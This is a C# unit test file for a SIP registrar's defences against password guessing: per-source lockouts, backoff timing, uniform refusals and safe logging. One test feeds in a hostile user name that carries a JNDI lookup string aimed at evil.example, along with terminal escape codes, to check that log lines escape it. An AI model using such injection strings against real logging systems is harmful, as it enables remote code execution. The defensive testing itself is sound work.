using System.Globalization;
using Sipstead.Registrar.Admission;
using Sipstead.Registrar.History;
using Sipstead.Sip.Transport;
using Sipstead.Testing;
using Sipstead.Testing.Registrar;
using Xunit;

namespace Sipstead.Registrar.Tests.Admission;

/// <summary>Guessing of passwords (S-01, AUTH-22, ruling 35): who is refused, for how long, what it shows, and who is not concerned.</summary>
public sealed class WrongPasswordTests : IDisposable
{
    private const string Contact = "Contact: <sip:alice@192.0.2.10:40000>\r\nExpires: 600\r\n";
    private const string Attacker = "198.51.100.66:5060";

    private readonly LogLines _log = new();
    private readonly RegistrarHarness _harness;
    private readonly string _realm;
    private readonly long _alice;
    private int _devices;

    public WrongPasswordTests()
    {
        _harness = new RegistrarHarness(loggers: _log);
        _realm = _harness.AddRealm();
        _alice = _harness.AddCredential(_realm, "alice", "secret");
        _harness.AddCredential(_realm, "bobby", "secret");
    }

    public void Dispose() => _harness.Dispose();

    [Fact]
    public void S_01_TenWrongPasswords_RefuseTheRightOneToo_FromThatSourceAsThatUserOnly()
    {
        Guess(9);
        Assert.Equal(200, Device(Attacker).Register(expires: 60).Status);
        Guess(10);
        Assert.Equal(401, Device(Attacker).Register().Status);
        Assert.Equal(401, Device("198.51.100.66:7777", SipTransport.Tcp).Register().Status); // port and transport are no other source
        Assert.Equal(200, Device("198.51.100.67:5060").Register().Status);
        Assert.Equal(200, Device(Attacker, user: "bobby").Register().Status);
    }

    [Fact]
    public void S_01_Guesses_CountTogether_InRegisterAndInvite_AndForBothNamesOfTheUser()
    {
        Guess(4);
        Guess(3, "INVITE");
        for (var i = 0; i < 3; i++)
        {
            var device = Device(Attacker, password: "guess");
            device.DigestUser = $"alice@{_realm}";
            Assert.Equal(401, device.Register().Status);
        }

        Assert.Equal(401, Device(Attacker).Register().Status);
        var call = Device(Attacker);
        call.Method = "INVITE";
        Assert.Equal(407, call.Request(Contact).Status);
    }

    [Theory]
    [InlineData("2001:db8:1:2::1", "2001:db8:1:2:ffff::9", 401)] // one customer's /64
    [InlineData("2001:db8:1:2::1", "2001:db8:1:3::1", 200)]
    public void S_01_AnIpv6Source_IsItsNetworkOf64Bits(string guessing, string asking, int status)
    {
        Guess(10, source: $"[{guessing}]:5060");
        Assert.Equal(status, Device($"[{asking}]:5060").Register().Status);
    }

    [Fact]
    public void S_01_Refusals_GrowToAnHour_AndBeginAnewAfterAnHourOfPeace()
    {
        foreach (var seconds in new[] { 60, 120, 240, 480, 960, 1920, 3600, 3600 }) ShouldRefuseFor(seconds);
        _harness.Time.Advance(TimeSpan.FromHours(2));
        ShouldRefuseFor(60);
    }

    [Fact]
    public void S_01_AUserUnderAttackFromManySources_GoesOnFromItsOwn_AndStrangersHaveOneTry()
    {
        var phone = Device("192.0.2.10:40000");
        Assert.Equal(200, phone.Register().Status);
        for (var i = 0; i < 60; i++) Guess(1, source: $"198.51.100.{i}:5060");
        Assert.Single(_log.All, line => line.StartsWith("Warning 3061 User alice of realm " + _realm, StringComparison.Ordinal));

        Guess(1, source: "203.0.113.5:5060");
        Assert.Equal(401, Device("203.0.113.5:5060").Register().Status);
        Assert.Equal(200, Device("203.0.113.6:5060").Register().Status); // nobody is locked out who knows the password at once
        Assert.Equal(200, phone.Register().Status);
        Guess(1, source: "192.0.2.10:40001");
        Assert.Equal(200, phone.Register().Status); // a slip of the finger at home is no attack
    }

    [Fact]
    public void S_01_Loopback_IsNoExceptionForPasswords()
    {
        Guess(10, source: "127.0.0.7:5060");
        Assert.Equal(401, Device("127.0.0.7:5060").Register().Status);
        Assert.Equal(200, Device("127.0.0.8:5060").Register().Status);
    }

    [Fact]
    public void AUTH_22_Success_ForgetsThePairsFailures()
    {
        for (var round = 0; round < 5; round++)
        {
            Guess(9);
            Assert.Equal(200, Device(Attacker).Register().Status);
        }
    }

    [Fact]
    public void AUTH_22_AReplayedRequest_ForgetsNothing()
    {
        var device = Device(Attacker);
        Assert.Equal(200, device.Register().Status);
        Guess(5);
        Assert.Equal(200, device.Repeat().Status);
        Guess(5);
        Assert.Equal(401, Device(Attacker).Register().Status);
    }

    [Theory]
    [InlineData("alice", "secret")] // the right one
    [InlineData("alice", "guess!")]
    [InlineData("mouse", "secret")] // nobody
    public void AUTH_22_WhoIsRefused_IsAnsweredAsAnyWrongPassword(string user, string password)
    {
        Guess(10, user: user);
        var refused = Device(Attacker, user: user, password: password);
        var wrong = Device("203.0.113.66:5060", user: user, password: "wrong!");
        Assert.Equal(Form(wrong.Register()), Form(refused.Register()));
        Assert.NotEqual(refused.Nonce, wrong.Nonce);
    }

    [Fact]
    public void S_02_KnownAndUnknownUsers_AreRefusedAlike()
    {
        for (var i = 0; i < 12; i++)
        {
            var known = Device("203.0.113.1:5060", user: "alice", password: "guess!").Register();
            var unknown = Device("203.0.113.2:5060", user: "mouse", password: "guess!").Register();
            Assert.Equal(Form(known, "alice"), Form(unknown, "mouse"));
        }

        Assert.Equal(2, _log.All.Count(line => line.Contains("3060 ", StringComparison.Ordinal)));
    }

    [Fact]
    public void History_TellsOfARefusedPair_WhatToDo()
    {
        Guess(10);
        Device(Attacker).Register();
        var last = _harness.History.OfCredential(_alice)[0];
        Assert.Equal((RegistrationOutcome.RateLimited, 401), (last.Outcome, last.Status));
        Assert.Contains("wait", RegistrationOutcomes.AdviceOf(last.Outcome), StringComparison.Ordinal);
    }

    [Fact]
    public void ForeignNonces_AreNoGuesses()
    {
        for (var i = 0; i < 30; i++)
        {
            var device = Device(Attacker);
            device.Nonce = "bm90IG9uZSBvZiBvdXJz";
            Assert.Equal(401, device.SendOnce(Contact).Status);
        }

        Assert.Equal(200, Device(Attacker).Register().Status);
    }

    [Fact]
    public void S_29_LinesAboutFailures_AreBounded()
    {
        for (var i = 0; i < 400; i++) Guess(10, user: "user" + i.ToString(CultureInfo.InvariantCulture));
        Assert.InRange(_log.All.Count, 50, 110); // a burst of 100 in all, of the failures; a few of the source
    }

    [Fact]
    public void S_37_AHostileName_IsOneWordOfItsLine()
    {
        const string name = "x from 10.0.0.1 by UDP: \u001b[31m{0}%s${jndi:ldap://evil.example/long}";
        Guess(10, user: name);
        var line = Assert.Single(_log.All, line => line.Contains("3060 ", StringComparison.Ordinal));
        Assert.Equal(
            $"Warning 3060 Authentication failures from 198.51.100.66 by UDP in realm {_realm} for user "
                + "x%20from%2010.0.0.1%20by%20UDP%3A%20%1B%5B31m%7B0%7D%25s%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Flon: refused for 60 s",
            line);
    }

    [Fact]
    public void S_37_NoOctet_EndsALine()
    {
        var octets = Enumerable.Range(0, 256).Select(octet => (byte)octet).ToArray();
        foreach (var octet in octets) Assert.DoesNotContain(EscapedUser.Of([octet]), static c => char.IsControl(c) || c is ' ' or ':' or '=' or '"');
        Assert.Equal("-", EscapedUser.Of([]));
        Assert.Equal(3 * EscapedUser.MaxOctets, EscapedUser.Of(new byte[65_536]).Length);
    }

    /// <summary>What of an answer shows: the lines, with random fields masked at their length.</summary>
    private static string Form(SipResponseText answer, string user = "")
    {
        var text = user.Length == 0 ? answer.Text : answer.Text.Replace(user, "00000", StringComparison.Ordinal);
        foreach (var secret in new[] { answer.Challenge("nonce")!, answer.One("Call-ID")!, answer.One("To")!.Split("tag=")[1] })
            text = text.Replace(secret, new string('?', secret.Length), StringComparison.Ordinal);
        return string.Join("\r\n", text.Split("\r\n").Where(line => !line.StartsWith("Via:", StringComparison.Ordinal)));
    }

    private void ShouldRefuseFor(int seconds)
    {
        Guess(10);
        _harness.Time.Advance(TimeSpan.FromSeconds(seconds - 1));
        Assert.Equal(401, Device(Attacker).Register().Status);
        Assert.EndsWith($"refused for {seconds} s", _log.All.Last(), StringComparison.Ordinal);
        _harness.Time.Advance(TimeSpan.FromSeconds(2));
    }

    private void Guess(int times, string method = "REGISTER", string source = Attacker, string user = "alice")
    {
        for (var i = 0; i < times; i++)
        {
            var device = Device(source, user: user, password: "guess" + i.ToString(CultureInfo.InvariantCulture));
            device.Method = method;
            Assert.Equal(method == "INVITE" ? 407 : 401, device.Request(Contact).Status);
        }
    }

    private ScriptedDevice Device(string source, SipTransport transport = SipTransport.Udp, string user = "alice", string password = "secret") =>
        new(_harness, _realm, user, password)
        {
            Flow = RegistrarHarness.Flow(source, transport, transport == SipTransport.Udp ? 0 : 1),
            CallId = "call-" + (++_devices).ToString("D8", CultureInfo.InvariantCulture),
        };
}
